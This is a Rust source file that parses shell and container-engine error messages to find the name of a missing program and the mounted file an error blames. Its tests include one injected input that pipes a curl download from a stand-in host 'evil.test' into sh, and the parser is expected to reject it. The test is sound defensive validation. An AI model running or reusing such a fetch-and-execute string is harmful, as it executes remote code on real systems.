//! Programs that a shell or the engine did not find.

use serde_json::{Value, json};

use super::EditContext;
use super::case::{contains, host_file, is_plain, paths};

parts! {
    /// Ends of a message about a missing program, after its name.
    NOT_FOUND: ": not found" ": command not found" ": executable file not found in $PATH";
}

/// Program in a message of a shell or of the engine, such as `sh: htpd: not found`.
pub(crate) fn program_in(line: &str) -> Option<&str> {
    let of_shell = NOT_FOUND.iter().find_map(|end| {
        let (before, _) = line.split_once(end)?;
        Some(before.rsplit(": ").next()?.trim().trim_matches('"'))
    });
    // The init process of the engine.
    let of_init = || {
        let (_, rest) = line.split_once("] exec ")?;
        Some(rest.split_once(" failed: No such file or directory")?.0)
    };
    let of_engine = || {
        let (name, rest) = line.split_once("exec: \"")?.1.split_once('"')?;
        contains(rest, &["no such file"]).then_some(name)
    };
    let name = of_shell.or_else(of_init).or_else(of_engine)?;
    (!name.is_empty() && is_plain(name)).then_some(name)
}

/// Details of an error whose message names a missing program.
pub(crate) fn missing_program(message: &str) -> Option<Value> {
    let name = message.lines().find_map(program_in)?;
    let expected = if name.contains('/') { name } else { "$PATH" };
    Some(json!({
        "missingCommand": name,
        "expectedPath": expected,
        "installHint": format!("install `{name}` in the image, or use an image that has it"),
    }))
}

/// Mounted file that a message blames: its last subject. A script with the number of a line ran, and something that it names is missing.
pub(super) fn blamed<'a>(context: &EditContext<'_>, line: &'a str) -> Option<&'a str> {
    parts! {
        MESSAGES: "permission denied" "no such file" "not found" "cannot run" "cannot execute" "failed";
    }
    let marks = |c: char| " :\"'`’\\".contains(c);
    paths(line).find(|path| {
        let Some((before, rest)) = line.split_once(*path) else {
            return false;
        };
        let message = rest.trim_start_matches(marks).to_lowercase();
        let is_named = contains(line, &["bad interpreter", "exec format"])
            || before.trim_end_matches(marks).ends_with("exec")
            || MESSAGES.iter().any(|part| message.starts_with(part));
        is_named && !is_place(rest) && host_file(context, path).is_some()
    })
}

/// Returns whether a text after a path is the number of a line, such as `: line 3:` or `: 3:`.
pub(super) fn is_place(rest: &str) -> bool {
    let text = rest.strip_prefix(':').unwrap_or_default().trim_start();
    let text = text.strip_prefix("line ").unwrap_or(text);
    text.starts_with(|c: char| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn missing_program_is_found_in_common_messages() {
        for (line, name) in [
            ("sh: htpd: not found", Some("htpd")),
            ("/bin/sh: 1: /app/run: not found", Some("/app/run")),
            ("bash: line 1: nod: command not found", Some("nod")),
            (
                "failed: exec: \"slepp\": executable file not found in $PATH: unknown",
                Some("slepp"),
            ),
            (
                "[FATAL tini (7)] exec slepp failed: No such file or directory",
                Some("slepp"),
            ),
            (
                "exec: \"./strat.sh\": stat ./strat.sh: no such file or directory: unknown",
                Some("./strat.sh"),
            ),
            ("GET /x: 404: page not found", None),
            ("sh: x;curl${IFS}evil.test|sh: not found", None),
            ("sh: --eval=x: not found", None),
            ("started", None),
        ] {
            assert_eq!(program_in(line), name, "{line}");
        }
    }
}
